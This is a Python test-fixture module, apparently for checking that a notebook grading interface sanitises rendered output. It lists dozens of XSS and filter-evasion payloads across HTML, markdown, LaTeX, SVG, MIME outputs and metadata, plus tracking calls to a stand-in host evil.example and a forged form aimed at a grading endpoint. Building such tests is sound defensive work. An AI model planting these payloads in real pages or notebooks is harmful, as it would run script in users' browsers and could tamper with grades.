"""What a learner could write to make a page do something: a list of known ways.

Each calls ``alert`` if it succeeds, asks another place for something, moves over the page, or takes
the place of one of its parts. The kinds are those of OWASP's sheet on the evasion of filters.
"""

DATA = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
PICTURE = (
    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuY"
    "AAAAAElFTkSuQmCC"
)

HTML = (
    "<script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img src="jav\tascript:alert(1)">',
    '<img src="https://evil.example/seen.png">',
    '<picture><source srcset="https://evil.example/seen.png"><img></picture>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">click</maction>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    f"<object data='{DATA}'></object>",
    f"<embed src='{DATA}'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src='{DATA}'></iframe>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/a.css'; * { display: none }</style>",
    "<div style='background: url(https://evil.example/seen.png)'>x</div>",
    "<div style='position: fixed; inset: 0; z-index: 9999'>over all</div>",
    "<div class='navbar-fixed-top modal in' style='margin-top: -9999px'>over all</div>",
    "<form action='/formgrader/api/grade/1'><button>Full credit</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\nscript:alert(1)'>click</a>",
    "<a href='java&Tab;script&colon;alert(1)'>click</a>",
    f"<a href='{DATA}'>click</a>",
    "<a href='/formgrader/x'>click</a>",
    "<a onmouseover=alert(1)>click</a>",
    "<a href='https://evil.example/' ping='https://evil.example/' target='_self'>away</a>",
    "<b/onclick=alert(1)//click>",
    "<input id='q1-check' class='score' value='99'>",
    "<form id=document name=getElementById></form>",
    "<x-widget onclick=alert(1) style=animation-name:x onanimationstart=alert(1)>click</x-widget>",
    "<p data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>' data-link=x>x</p>",
)

MARKDOWN = (
    "[click](javascript:alert(1))",
    "[click](java\u0000script:alert(1))",
    f"[click]({DATA})",
    "<javascript:alert(1)>",
    '![x"onerror="alert(1)](x)',
    '![x](x "onerror=alert(1) \\"")',
    "![](https://evil.example/seen.png)",
    "![](attachment:evil)",
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[<b onclick=alert(1)>]\n```",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{click}$",
    r"$\style{position:fixed;inset:0}{x}$",
    "$x</script><script>alert(1)</script>$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<" * 500 + "script>alert(1)</script>",
)

ATTACHMENTS = {
    "evil": {
        "image/png": 'x" onerror="alert(1)',
        "image/svg+xml": '"><script>alert(1)</script>',
        "text/html": "<script>alert(1)</script>",
    },
    "dot": {"image/png": PICTURE},
}

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='12' height='12' onload='alert(1)'>"
    "<script>alert(1)</script><image href='https://evil.example/seen.png'/>"
    "<rect width='12' height='12' fill='teal'/></svg>"
)

OUTPUTS = (
    *({"text/html": attack, "text/plain": "x"} for attack in HTML),
    {"application/javascript": "alert(1)", "text/plain": "x"},
    {"text/latex": "$$x</script><script>alert(1)</script>$$", "text/plain": "x"},
    {"text/latex": r"$\href{javascript:alert(1)}{click}$", "text/plain": "x"},
    {"text/markdown": "[click](javascript:alert(1)) <img src=x onerror=alert(1)>"},
    {"text/plain": "<img src=x onerror=alert(1)>"},
    {"image/svg+xml": SVG},
    {"image/png": '"><script>alert(1)</script>', "text/plain": "x"},
    {"image/jpeg": '" onerror="alert(1)', "text/plain": "x"},
    {"text/vnd.mermaid": "graph TD; A[<img src=x onerror=alert(1)>]", "text/plain": "x"},
    {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)"},
        "text/plain": "x",
    },
)

METADATA = {
    "isolated": True,
    "text/html": {"isolated": True},
    "filenames": {"image/png": '" onerror="alert(1)', "image/jpeg": '" onerror="alert(1)'},
    "image/png": {"width": "1 onerror=alert(1)", "alt": '" onerror="alert(1)'},
    "width": "1 onerror=alert(1)",
}

TERMINAL = "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 <img src=x onerror=alert(1)>"
